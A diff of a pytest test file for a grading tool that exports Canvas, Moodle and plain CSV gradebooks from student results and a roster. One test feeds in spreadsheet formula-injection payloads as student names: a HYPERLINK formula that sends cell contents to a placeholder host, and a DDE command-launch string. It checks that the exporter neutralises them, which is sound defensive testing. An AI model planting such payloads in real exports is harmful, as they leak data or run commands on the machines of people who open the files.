@@ -6,8 +6,9 @@ import numpy as np
 import pytest
 
 from grader.report import _html
-from grader.report.gradebook import (collect, frequent_diagnoses, pass_rates, read_roster,
-                                     render_summary_html, score_histogram, write_csv)
+from grader.report.gradebook import (GradebookError, add_missing, collect, frequent_diagnoses, pass_rates,
+                                     read_roster, render_summary_html, safe_cell, score_histogram,
+                                     validate_canvas_id, write_csv)
 from grader.report.similarity import Pair
 
 from .fixtures import assert_self_contained, make_results, write_batch
@@ -52,42 +53,180 @@ def _read(path):
         return list(csv.reader(fh))
 
 
-def test_canvas_csv(batch, tmp_path):
+ROSTER = ("student,name,sis_id,login_id,canvas_id,section,email,id_number\n"
+          "s01,\"Lovelace, Ada\",A-001,ada,9001,Sec 1,ada@uni.edu,20231001\n"
+          "s02,Boris,A-002,,,Sec 1,s02@uni.edu,20231002\n"
+          "s03,Clara,,clara,,Sec 2,,20231003\n"
+          "s04,Dmitri,A-004,,,,d@uni.edu,20231004\n"
+          "s05,Eva,A-005,,,,e@uni.edu,20231005\n"
+          "s06,Fyodor,A-006,,,,f@uni.edu,20231006\n"
+          "s07,Galina,A-007,,,,g@uni.edu,20231007\n"
+          "s08,Hugo (no submission),A-008,,,Sec 2,h@uni.edu,20231008\n")
+
+
+@pytest.fixture
+def roster(tmp_path):
+    f = tmp_path / "roster.csv"
+    f.write_text(ROSTER, encoding="utf-8")
+    return read_roster(f)
+
+
+def canvas_import_problems(table) -> list[str]:
+    """Canvas's gradebook CSV import rules: the header starts with Student, ID, SIS User ID, SIS
+    Login ID, Section; an assignment column is ``Name (numeric id)`` to fill an existing
+    assignment (anything else becomes a new one); an optional ``Points Possible`` row; every
+    student row is matched by ID, SIS User ID or SIS Login ID; a grade is a number or blank."""
+    problems = []
+    head = table[0]
+    if head[:5] != ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]:
+        problems.append(f"header {head[:5]}")
+    for col in head[5:]:
+        if not re.fullmatch(r".+ \(\d+\)", col):
+            problems.append(f"column {col!r} would create a new assignment")
+    body = table[1:]
+    if body and body[0][0] == "Points Possible":
+        body = body[1:]
+    for row in body:
+        if len(row) != len(head):
+            problems.append(f"row length {row}")
+        if not any(row[1:4]):
+            problems.append(f"row {row[0]!r} matches no Canvas user")
+        for cell in row[5:]:
+            if cell and not re.fullmatch(r"\d+(\.\d+)?", cell):
+                problems.append(f"grade {cell!r}")
+    return problems
+
+
+def moodle_import_problems(table, id_column="ID number") -> list[str]:
+    """Moodle's CSV grade import: one identifier column mapped under "Identify user by" whose
+    every value names an existing user (one unknown user aborts the import), unique; grades are
+    numbers or blank."""
+    head, body = table[0], table[1:]
+    k = head.index(id_column)
+    ids = [row[k] for row in body]
+    problems = [f"empty {id_column} for {row[2]!r}" for row in body if not row[k]]
+    if len(set(ids)) != len(ids):
+        problems.append("duplicate ids")
+    g = head.index("hw2-conv") if "hw2-conv" in head else 3
+    problems += [f"grade {row[g]!r}" for row in body if row[g] and not re.fullmatch(r"\d+(\.\d+)?", row[g])]
+    return problems
+
+
+def test_canvas_csv(batch, roster, tmp_path):
     rows = collect(batch)
-    roster_file = tmp_path / "roster.csv"
-    roster_file.write_text("student,name,sis_id,canvas_id,section,email\n"
-                           "s01,\"Lovelace, Ada\",A-001,9001,Sec 1,ada@uni.edu\n", encoding="utf-8")
-    roster = read_roster(roster_file)
     table = _read(write_csv(rows, tmp_path / "canvas.csv", "canvas", roster=roster, canvas_assignment_id=4242))
+    assert canvas_import_problems(table) == []
     assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "hw2-conv (4242)"]
     assert table[1] == ["Points Possible", "", "", "", "", "10"]
-    assert table[2] == ["Lovelace, Ada", "9001", "A-001", "", "Sec 1", "10"]
-    assert table[3] == ["s02", "", "s02", "", "", "4"]
+    assert table[2] == ["Lovelace, Ada", "9001", "A-001", "ada", "Sec 1", "10"]
+    assert table[3] == ["Boris", "", "A-002", "", "Sec 1", "4"]
+    assert table[4][:4] == ["Clara", "", "", "clara"]          # no SIS id in the roster: none made up
     assert table[5][-1] == "0"              # a load error is a graded zero
     assert table[7][-1] == ""               # unreadable: leave the grade alone
-    assert len(table) == 2 + 7
-    plain_title = _read(write_csv(rows, tmp_path / "c2.csv", "canvas", title="HW 2"))
-    assert plain_title[0][-1] == "HW 2"
+    assert table[9] == ["Hugo (no submission)", "", "A-008", "", "Sec 2", "0"]    # every roster student
+    assert len(table) == 2 + 8
+    blank = _read(write_csv(rows, tmp_path / "b.csv", "canvas", roster=roster, canvas_assignment_id="4242",
+                            missing="blank"))
+    assert blank[9][-1] == ""
+    titled = _read(write_csv(rows, tmp_path / "c2.csv", "canvas", roster=roster, title="HW 2",
+                             new_canvas_column=True))
+    assert titled[0][-1] == "HW 2"
 
 
-def test_moodle_and_plain_csv(batch, tmp_path):
+def test_canvas_needs_a_numeric_assignment_id_and_roster_ids(batch, roster, tmp_path):
     rows = collect(batch)
-    roster = {"s02": {"email": "s02@uni.edu", "id_number": "20231002", "name": "Boris"}}
+    with pytest.raises(GradebookError, match="canvas_assignment_id"):
+        write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster)
+    for bad in ("abc", "12a", "-5", "1 2", True, "4242)"):
+        with pytest.raises(GradebookError, match="numeric id"):
+            write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster, canvas_assignment_id=bad)
+    assert validate_canvas_id(" 4242 ") == "4242"
+    with pytest.raises(GradebookError) as exc:                   # no roster: no ids to match anyone by
+        write_csv(rows, tmp_path / "c.csv", "canvas", canvas_assignment_id=1)
+    assert exc.value.students == [f"s0{i}" for i in range(1, 8)]
+    partial = {k: v for k, v in roster.items() if k != "s05"}
+    with pytest.raises(GradebookError, match="s05") as exc:      # in OUT, not in the roster
+        write_csv(rows, tmp_path / "c.csv", "canvas", roster=partial, canvas_assignment_id=1)
+    assert exc.value.students == ["s05"]
+
+
+def test_moodle_and_plain_csv(batch, roster, tmp_path):
+    rows = collect(batch)
     table = _read(write_csv(rows, tmp_path / "m.csv", "moodle", roster=roster))
+    assert moodle_import_problems(table) == []
     assert table[0] == ["ID number", "Email address", "Full name", "hw2-conv", "Late penalty (%)", "Feedback"]
     assert table[2] == ["20231002", "s02@uni.edu", "Boris", "4", "20", "late 2 day(s), -20% (raw 5)"]
     assert table[4][3] == "0" and "SyntaxError" in table[4][5]
     assert table[6][3] == "" and "JSONDecodeError" in table[6][5]
+    assert table[8][:4] == ["20231008", "h@uni.edu", "Hugo (no submission)", "0"] and "no submission" in table[8][5]
+    no_ids = {k: {**v, "id_number": "", "email": ""} if k in ("s03", "s06") else v for k, v in roster.items()}
+    with pytest.raises(GradebookError, match="Moodle") as exc:   # refused with the list, nothing written
+        write_csv(rows, tmp_path / "m2.csv", "moodle", roster=no_ids)
+    assert exc.value.students == ["s03", "s06"] and not (tmp_path / "m2.csv").exists()
     plain = _read(write_csv(rows, tmp_path / "p.csv", "plain"))
     assert plain[0] == ["student", "name", "score", "max_score", "days_late", "penalty_fraction",
                         "raw_score", "status", "reason"]
     assert plain[2] == ["s02", "", "4", "10", "2", "0.2", "5", "ok", ""]
+    assert len(plain) == 1 + 7                  # no roster: the folders only
     with pytest.raises(ValueError, match="fmt"):
         write_csv(rows, tmp_path / "x.csv", "blackboard")
     bad = tmp_path / "bad_roster.csv"
     bad.write_text("id,name\n1,x\n")
     with pytest.raises(ValueError, match="path"):
         read_roster(bad)
+
+
+def test_no_csv_cell_is_a_formula(tmp_path):
+    """A student-chosen name (from a Gradescope export or the roster) never becomes a formula."""
+    evil = ['=HYPERLINK("http://x.invalid/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
+            "\tTAB", "\r=1+1"]
+    out = write_batch(tmp_path / "OUT", {f"s{i}": make_results(f"s{i}", "passing", name=n) for i, n in enumerate(evil)})
+    roster = {f"s{i}": {"student": f"s{i}", "name": n, "sis_id": f"A{i}", "id_number": n, "email": "",
+                        "section": "=1+2"} for i, n in enumerate(evil)}
+    rows = collect(out)
+    for fmt in ("canvas", "moodle", "plain"):
+        table = _read(write_csv(rows, tmp_path / f"{fmt}.csv", fmt, roster=roster, canvas_assignment_id=7))
+        for row in table:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")) and not re.match(r"-\D|-\d+[+*/]", cell), \
+                    (fmt, cell)
+        assert any(c.startswith("'=HYPERLINK") for row in table for c in row)
+    assert safe_cell("-1.5") == "-1.5" and safe_cell("Anna") == "Anna" and safe_cell(None) == ""
+
+
+def test_missing_students_in_the_summary(batch, roster):
+    rows = add_missing(collect(batch), roster, "zero")
+    assert [r["student"] for r in rows if r["status"] == "missing"] == ["s08"]
+    page = render_summary_html(rows)
+    assert "Missing: roster students without a submission" in page and "missing: 1" in page
+    assert "Submissions: 7 · graded: 5" in page             # a missing student is not a graded zero here
+    assert "Сводка" in render_summary_html(rows, lang="ru")
+    with pytest.raises(ValueError, match="missing"):
+        add_missing(rows, roster, "skip")
+
+
+def test_gradebook_cli_takes_the_canvas_id_from_convgrade_toml(batch, tmp_path, monkeypatch):
+    from click.testing import CliRunner
+
+    from grader.cli import main
+
+    roster = tmp_path / "roster.csv"
+    roster.write_text(ROSTER, encoding="utf-8")
+    course = tmp_path / "course"
+    course.mkdir()
+    monkeypatch.chdir(course)
+    runner = CliRunner()
+    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster)])
+    assert r.exit_code == 3 and "canvas-assignment-id" in r.output
+    (course / "convgrade.toml").write_text('name = "CNN"\n[lms.canvas.assignments]\n\"hw2-conv\" = 51234\n')
+    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster)])
+    assert r.exit_code == 1, r.output             # written; exit 1 because two results are unreadable
+    table = _read(batch / "gradebook-canvas.csv")
+    assert table[0][-1] == "hw2-conv (51234)" and canvas_import_problems(table) == []
+    r = runner.invoke(main, ["gradebook", str(batch), "--roster", str(roster), "--canvas-assignment-id", "x1"])
+    assert r.exit_code == 3 and "numeric" in r.output
+    r = runner.invoke(main, ["gradebook", str(batch), "--format", "moodle"])
+    assert r.exit_code == 3 and "s01" in r.output and "roster" in r.output
 
 
 def test_pass_rates_diagnoses_histogram(batch):
@@ -154,13 +293,7 @@ def test_roster_ids_match_the_safe_folder_names(tmp_path):
     roster = read_roster(roster_file)
     assert set(roster) == {"Anna_Ivanova", "b.petrov@uni.edu"}
     rows = collect(out)
-    canvas = _read(write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster))
-    assert canvas[2] == ["Анна Иванова", "", "Anna Ivanova", "", "Sec 2", "10"]
-    moodle = _read(write_csv(rows, tmp_path / "m.csv", "moodle", roster=roster))
-    assert moodle[1][:3] == ["Anna Ivanova", "", "Анна Иванова"]
+    with pytest.raises(GradebookError):      # this roster has no LMS ids: nothing is made up
+        write_csv(rows, tmp_path / "c.csv", "canvas", roster=roster, canvas_assignment_id=1)
     plain = _read(write_csv(rows, tmp_path / "p.csv", "plain", roster=roster))
-    assert plain[1][:2] == ["Anna Ivanova", "Анна Иванова"]
-    clash = tmp_path / "clash.csv"
-    clash.write_text("student\na b\na_b\n", encoding="utf-8")
-    with pytest.raises(ValueError, match="same folder name 'a_b'"):
-        read_roster(clash)
+    assert [r[:2] for r in plain[1:]] == [["Anna Ivanova", "Анна Иванова"], ["b.petrov@uni.edu", "Boris Petrov"]]
